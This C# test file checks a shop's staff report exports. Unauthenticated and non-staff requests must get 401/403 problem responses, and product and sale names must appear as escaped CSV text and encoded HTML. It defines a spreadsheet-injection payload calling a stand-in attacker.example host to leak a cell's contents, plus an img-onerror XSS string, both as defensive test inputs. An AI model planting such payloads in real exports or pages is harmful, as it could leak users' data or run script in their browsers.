using System.Net;
using System.Net.Http.Json;
using Shop.ServiceDefaults.Endpoints;
using Shop.Staff;
using Shop.Tests.Hardening;
using Shop.Tests.Infrastructure;
using Shop.Tests.Orders;
using Shop.Tests.WaitingRoom;

namespace Shop.Tests.Reporting;

/// <summary>
/// What the staff exports give to whom: one refusal rule for every export (401/403 problems, pages sign in), and names
/// typed by one audience shown as text, never run as code, to another (spreadsheet formulas in CSV, markup in pages).
/// </summary>
[Collection(ShopCollection.Name)]
public sealed class ExportSafetyTests(ShopFixture fixture)
{
    private const string Formula = "=HYPERLINK(\"http://attacker.example/?x=\"&B2,\"open\")";
    private const string Markup = "<img src=x onerror=alert(1)>";
    private const int FormulaProduct = 4851, MarkupProduct = 4852;
    private static readonly string[] Exports =
        ["/reports/sales.csv", "/reports/top-products.csv", "/reports/categories.csv", "/reports/outcomes.csv", "/reports/funnel.csv", "/reports/stock.csv"];

    private readonly TestShop shop = fixture.Shop;

    [Fact]
    public async Task Every_export_refuses_with_a_401_or_403_problem_and_no_redirect_while_pages_send_visitors_to_sign_in()
    {
        // Every non-page endpoint behind a policy, as the service's own routing lists them: a new export is covered too.
        var resources = (await ShopService.For(shop, ShopService.Reporting).EndpointsAsync())
            .Where(e => !e.Access.IsPublic && e.Kind is not (EndpointInventory.Kinds.Page or EndpointInventory.Kinds.StaticAsset) && e.Methods.Contains("GET"))
            .Select(e => e.Route)
            .ToList();
        Assert.Superset(Exports.ToHashSet(), resources.ToHashSet());

        const string password = "correct horse battery";
        var shopper = $"export-shopper-{Guid.NewGuid():N}"[..24] + "@example.com";
        await StaffClient.CreateAccountAsync(shop, shopper, password);
        using var signedIn = new StaffClient(shop);
        await signedIn.SignedInAsync(shopper, password);

        var problems = new List<string>();
        using var direct = Browserlike.Client(new Uri($"http://localhost:{shop.Ports.Reporting}"));
        using var edge = Browserlike.Client(new Uri($"https://localhost:{shop.Ports.StaffHttps}"));
        foreach (var path in resources)
        {
            // A script, a CSV download that accepts only CSV, and a browser following the "Download CSV" link.
            foreach (var accept in new[] { "", "text/csv", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8" })
            {
                foreach (var (client, where) in new[] { (direct, "direct"), (edge, "edge") })
                {
                    await ExpectProblemAsync(client, path, accept, HttpStatusCode.Unauthorized, $"anonymous {where}", problems);
                }
                await ExpectProblemAsync(signedIn.Http, path, accept, HttpStatusCode.Forbidden, "signed-in non-staff", problems);
            }
        }

        // Pages are for people: anonymous visitors go to the sign-in page, a signed-in account without the role gets 403.
        foreach (var page in new[] { "/", "/reports/stock", "/reports/sales-events" })
        {
            using var anonymous = await direct.GetAsync(page);
            if (anonymous.StatusCode != HttpStatusCode.Redirect || anonymous.Headers.Location?.OriginalString.Contains("/login") != true)
            {
                problems.Add($"anonymous GET {page}: {(int)anonymous.StatusCode} to {anonymous.Headers.Location}");
            }
            using var refused = await signedIn.Http.GetAsync(page);
            if (refused.StatusCode != HttpStatusCode.Forbidden)
            {
                problems.Add($"signed-in non-staff GET {page}: {(int)refused.StatusCode}");
            }
        }
        Assert.True(problems.Count == 0, string.Join(Environment.NewLine, problems));
    }

    private static async Task ExpectProblemAsync(HttpClient client, string path, string accept, HttpStatusCode expected, string who, List<string> problems)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        if (accept.Length > 0)
        {
            request.Headers.TryAddWithoutValidation("Accept", accept);
        }
        using var response = await client.SendAsync(request);
        var type = response.Content.Headers.ContentType?.MediaType;
        if (response.StatusCode != expected || type != "application/problem+json" || response.Headers.Location is not null)
        {
            problems.Add($"{who} GET {path} (Accept: {accept}): {(int)response.StatusCode} {type} Location={response.Headers.Location}");
            return;
        }
        var problem = await response.Content.ReadFromJsonAsync<System.Text.Json.JsonElement>();
        if (!problem.TryGetProperty("status", out var status) || status.GetInt32() != (int)expected
            || !problem.TryGetProperty("detail", out var detail) || detail.GetString() is not { Length: > 0 })
        {
            problems.Add($"{who} GET {path}: a problem without status or detail: {problem}");
        }
    }

    [Fact]
    public async Task Names_from_staff_and_sales_are_text_in_every_export_and_encoded_in_every_page()
    {
        var sales = new SaleTraffic(shop);
        var saleId = SaleTraffic.NewSaleId();
        var saleName = $"{Formula} {Markup}";
        using (var admin = await sales.AdminAsync())
        {
            foreach (var (id, name) in new[] { (FormulaProduct, Formula), (MarkupProduct, Markup) })
            {
                // Priced so that one unit makes the top 20 by revenue, whatever else the suite has sold in the report's 30 days.
                using var renamed = await admin.PutAsJsonAsync($"/api/admin/catalog/items/{id}", new { name, stock = 1, price = 999_999.99m });
                Assert.True(renamed.IsSuccessStatusCode, $"rename {id}: {(int)renamed.StatusCode} {await renamed.Content.ReadAsStringAsync()}");
            }
        }

        // One admitted shopper of a sale with a hostile name buys the last unit of both products: they reach every report.
        Guid orderId;
        await using (await sales.StartSaleAsync(saleId, SaleTraffic.Sale(admissionsPerMinute: 6000, maxActive: 10, name: saleName)))
        {
            using (var web = Browserlike.Client(new Uri($"http://localhost:{shop.Ports.Web}")).AskingForHtml())
            {
                AssertEncoded(await web.GetStringAsync("/waiting-room"), Markup, "the waiting-room page");
            }
            using var api = sales.Instance(0);
            var waiter = await SaleTraffic.JoinedAsync(api, SaleTraffic.ClientIp(96_000));
            var admission = (await SaleTraffic.AdmittedAsync(api, waiter)).AdmissionToken!;
            using var request = new HttpRequestMessage(HttpMethod.Post, "/api/orders")
            {
                Content = JsonContent.Create(new
                {
                    customer = new { email = "hostile@example.com", name = "Hostile" },
                    items = new[] { new { productId = FormulaProduct, quantity = 1 }, new { productId = MarkupProduct, quantity = 1 } },
                }),
            };
            request.Headers.Add("Idempotency-Key", Guid.NewGuid().ToString("N"));
            request.Headers.Add("X-Admission-Token", admission);
            request.Headers.Add("X-Waiting-Ticket", waiter.Ticket);
            using var edge = shop.EdgeClient();
            using var response = await edge.SendAsync(request);
            Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
            orderId = (await response.Content.ReadFromJsonAsync<OrderAcceptedDto>())!.OrderId;
            var settled = await new OrderTraffic(shop).SettledAsync([orderId], TimeSpan.FromSeconds(30));
            Assert.Equal("Confirmed", settled[orderId].Status);
        }

        using var staff = new StaffClient(shop);
        await staff.SignedInAsync(StaffRoles.AdminEmail, await StaffClient.AdminPasswordAsync(shop));
        Dictionary<string, List<string[]>> exports = [];
        await Poll.UntilAsync(async () =>
        {
            foreach (var path in Exports)
            {
                exports[path] = await staff.CsvAsync(path == "/reports/stock.csv" ? path + "?low=0" : path);
            }
            return exports["/reports/top-products.csv"].Any(r => r[0] == $"{FormulaProduct}")
                && exports["/reports/stock.csv"].Any(r => r[0] == $"{FormulaProduct}")
                && exports["/reports/outcomes.csv"].Any(r => r[0].Contains(saleId))
                && exports["/reports/funnel.csv"].Any(r => r[0].Contains(saleId));
        }, "the order, the sold-out products and the sale in the reports on the replica");

        // Where a hostile name shows, it starts with the escape and reads back as the name; the numbers next to it are plain numbers.
        var escapedFormula = "'" + Formula;
        var escapedSale = $"'{saleName} ({saleId})";
        var product = Row(exports["/reports/top-products.csv"], $"{FormulaProduct}");
        // Units over the report's 30 days: 1 on a fresh database, more when the test shop's data is reused.
        Assert.Equal(escapedFormula, product[2]);
        Assert.Matches("^[1-9][0-9]*$", product[4]);
        Assert.Equal(Markup, Row(exports["/reports/top-products.csv"], $"{MarkupProduct}")[2]);
        var stock = Row(exports["/reports/stock.csv"], $"{FormulaProduct}");
        Assert.Equal((escapedFormula, "0", "sold out"), (stock[1], stock[3], stock[4]));
        Assert.Equal([escapedSale, "1", "0", "0", "0"], Row(exports["/reports/outcomes.csv"], saleId, contains: true));
        var funnel = Row(exports["/reports/funnel.csv"], saleId, contains: true);
        Assert.Equal(escapedSale, funnel[0]);
        Assert.All(funnel[1..], cell => Assert.True(cell.Length == 0 || decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), $"funnel cell {cell}"));

        // And no cell of any export starts with what a spreadsheet runs.
        foreach (var (path, rows) in exports)
        {
            foreach (var cell in rows.SelectMany(r => r))
            {
                Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"{path} has a cell a spreadsheet would run: {cell}");
            }
        }

        // The pages show the names as text: the staff reports (tables and chart labels) and the storefront.
        foreach (var page in new[] { "/reports/products", "/reports/stock?low=0", "/reports/sales-events" })
        {
            var html = await staff.Http.GetStringAsync(page);
            AssertEncoded(html, page == "/reports/sales-events" ? saleName : Markup, page);
        }
        using var storefront = Browserlike.Client(new Uri($"http://localhost:{shop.Ports.Web}")).AskingForHtml();
        await Poll.UntilAsync(async () => WebUtility.HtmlDecode(await storefront.GetStringAsync($"/product/{MarkupProduct}")).Contains(Markup),
            "the storefront to show the renamed product");
        AssertEncoded(await storefront.GetStringAsync($"/product/{MarkupProduct}"), Markup, "the product page");
        AssertEncoded(await storefront.GetStringAsync("/search?q=onerror"), Markup, "the search results");
    }

    private static void AssertEncoded(string html, string name, string where)
    {
        Assert.True(WebUtility.HtmlDecode(html).Contains(name, StringComparison.Ordinal), $"{where} does not show {name}");
        Assert.False(html.Contains("<img src=x", StringComparison.Ordinal), $"{where} renders the name as markup");
    }

    private static string[] Row(List<string[]> rows, string key, bool contains = false) =>
        rows.FirstOrDefault(r => contains ? r[0].Contains(key, StringComparison.Ordinal) : r[0] == key)
        ?? throw new Xunit.Sdk.XunitException($"No row for {key}");
}
